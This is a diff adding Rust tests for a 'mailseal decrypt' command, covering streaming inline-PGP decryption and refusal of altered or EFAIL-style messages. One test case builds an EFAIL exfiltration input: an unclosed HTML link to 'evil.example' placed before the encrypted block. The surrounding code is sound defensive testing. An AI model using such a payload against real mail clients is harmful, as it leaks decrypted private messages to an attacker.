@@ -1,6 +1,7 @@
-//! `mailseal decrypt` of large PGP/MIME messages: read as a stream, in
-//! bounded memory (measured: the child's peak RSS), with nothing released
-//! when the ciphertext was changed, and no plaintext on disk meanwhile.
+//! `mailseal decrypt` of large PGP/MIME and inline PGP messages: read as a
+//! stream, in bounded memory (measured: the child's peak RSS), with nothing
+//! released when the ciphertext was changed or an inline block is not the
+//! whole body, and no plaintext on disk meanwhile.
 
 mod common;
 
@@ -276,4 +277,190 @@ fn verify_of_a_100_mb_encrypted_message_streams_and_writes_no_plaintext() {
     );
     assert!(checked > 0, "no spill file was seen while verifying");
     assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0);
+}
+
+/// gpg's inline PGP message from Alice (signed when `sign`) to Bob of
+/// `plaintext`, with the header fields of a legacy inline message.
+fn inline_from_gpg(plaintext: &[u8], sign: bool) -> Vec<u8> {
+    let gpg = Gpg::new();
+    for key in ["keys/alice.sec.asc", "keys/bob.pub.asc"] {
+        gpg.run(&["--import", common::testdata(key).to_str().unwrap()], b"")
+            .ok();
+    }
+    let mut args = vec![
+        "--trust-model",
+        "always",
+        "-z",
+        "0",
+        "-a",
+        "-u",
+        "alice@example.org",
+        "-r",
+        "bob@example.net",
+        "-e",
+    ];
+    if sign {
+        args.push("-s");
+    }
+    let block = gpg.run(&args, plaintext).ok().stdout;
+    let mut message = b"From: alice@example.org\r\nTo: bob@example.net\r\nSubject: inline\r\n\
+        Content-Type: text/plain; charset=us-ascii\r\n\r\n"
+        .to_vec();
+    message.extend_from_slice(&common::crlf(&block));
+    message
+}
+
+/// The text of a large generated message, with a line of UTF-8 in it.
+fn large_text(mib: usize) -> Vec<u8> {
+    let message = marked_message(mib, "bob@example.net");
+    let start = message.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
+    let mut text = "Grüße aus Köln\r\n".as_bytes().to_vec();
+    text.extend_from_slice(&message[start..]);
+    text
+}
+
+#[test]
+fn a_large_inline_message_from_gpg_decrypts_and_verifies_in_bounded_memory() {
+    let bob = Home::new();
+    bob.import_key("bob");
+    bob.import_cert("alice");
+    let text = large_text(48);
+    let expected = body_sha256(&[b"X: y\r\n\r\n".as_slice(), &text].concat());
+    let input = bob.write("inline.eml", &inline_from_gpg(&text, true));
+    drop(text);
+    let tmp = tempfile::tempdir().unwrap();
+
+    // The spill is beside the -o file.
+    let out = bob.file("message.eml");
+    let (run, _) = decrypt(&bob, &["-o", out.to_str().unwrap()], &input, tmp.path());
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(run.stderr.contains("Good signature"), "{}", run.stderr);
+    assert!(
+        run.peak_kib < PEAK_LIMIT_KIB,
+        "decrypt peaked at {} KiB",
+        run.peak_kib
+    );
+    let decrypted = std::fs::read(&out).unwrap();
+    assert_eq!(
+        body_sha256(&decrypted),
+        expected,
+        "the decrypted text differs"
+    );
+    let head = String::from_utf8_lossy(&decrypted[..1024]);
+    assert!(
+        head.contains("Content-Type: text/plain; charset=utf-8\r\n"),
+        "{head}"
+    );
+    assert!(
+        head.contains("Content-Transfer-Encoding: 8bit\r\n"),
+        "{head}"
+    );
+    drop(decrypted);
+
+    let mut command = bob.command(&["verify", input.to_str().unwrap()]);
+    command.env("TMPDIR", tmp.path());
+    let run = run_measured(command, Stdio::null(), |_| {});
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(run.stderr.contains("Good signature"), "{}", run.stderr);
+    assert_eq!(run.stdout_len, 0, "verify wrote something on stdout");
+    assert!(
+        run.peak_kib < PEAK_LIMIT_KIB,
+        "verify peaked at {} KiB",
+        run.peak_kib
+    );
+    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0);
+}
+
+#[test]
+fn a_large_inline_message_that_is_not_the_whole_body_or_was_changed_releases_nothing() {
+    let bob = Home::new();
+    bob.import_key("bob");
+    let sealed = inline_from_gpg(&large_text(6), false);
+    let (head, block) =
+        sealed.split_at(sealed.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4);
+    let binary = dearmor(&armored_block(&sealed, "PGP MESSAGE"));
+    let mut flipped = binary.clone();
+    *flipped.last_mut().unwrap() ^= 0x01;
+    let cases: [(&str, Vec<u8>, i32, &str); 4] = [
+        (
+            "text before",
+            [
+                head,
+                b"Click <a href=\"https://evil.example/?".as_slice(),
+                b"\r\n",
+                block,
+            ]
+            .concat(),
+            65,
+            "nothing was decrypted",
+        ),
+        (
+            "text after",
+            [head, block, b"\r\n\">\r\n".as_slice()].concat(),
+            65,
+            "EFAIL",
+        ),
+        (
+            "no end line",
+            [head, &block[..block.len() - 30]].concat(),
+            0,
+            "",
+        ),
+        (
+            "last byte changed",
+            [head, armor(&flipped).as_bytes()].concat(),
+            0,
+            "no plaintext was released",
+        ),
+    ];
+    for (what, message, code, says) in cases {
+        let input = bob.write("changed.eml", &message);
+        let tmp = tempfile::tempdir().unwrap();
+        let out_dir = tempfile::tempdir().unwrap();
+        let out = out_dir.path().join("message.eml");
+        for args in [vec![], vec!["-o", out.to_str().unwrap()]] {
+            let (run, _) = decrypt(&bob, &args, &input, tmp.path());
+            if code != 0 {
+                assert_eq!(run.code, code, "{what}: {}", run.stderr);
+            }
+            assert_ne!(run.code, 0, "{what}: {}", run.stderr);
+            assert!(run.stderr.contains(says), "{what}: {}", run.stderr);
+            assert_eq!(run.stdout_len, 0, "{what}: plaintext on stdout");
+            assert_eq!(
+                std::fs::read_dir(out_dir.path()).unwrap().count(),
+                0,
+                "{what}: a file was left beside -o"
+            );
+            assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0);
+        }
+    }
+}
+
+#[test]
+fn a_large_multipart_message_with_an_encrypted_block_inside_is_refused_in_bounded_memory() {
+    let bob = Home::new();
+    bob.import_key("bob");
+    let sealed = inline_from_gpg(b"secret\r\n", false);
+    let block = armored_block(&sealed, "PGP MESSAGE");
+    let text = large_text(100);
+    let mut message = b"From: mallory@example.com\r\nTo: bob@example.net\r\nMIME-Version: 1.0\r\n\
+        Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\n"
+        .to_vec();
+    message.extend_from_slice(&text);
+    message.extend_from_slice(b"\r\n--m\r\nContent-Type: text/plain\r\n\r\n");
+    message.extend_from_slice(&block);
+    message.extend_from_slice(b"\r\n--m--\r\n");
+    let input = bob.write("mixed.eml", &message);
+    drop((text, message));
+    let tmp = tempfile::tempdir().unwrap();
+
+    let (run, _) = decrypt(&bob, &[], &input, tmp.path());
+    assert_eq!(run.code, 65, "{}", run.stderr);
+    assert!(run.stderr.contains("EFAIL"), "{}", run.stderr);
+    assert_eq!(run.stdout_len, 0);
+    assert!(
+        run.peak_kib < PEAK_LIMIT_KIB,
+        "decrypt peaked at {} KiB",
+        run.peak_kib
+    );
 }
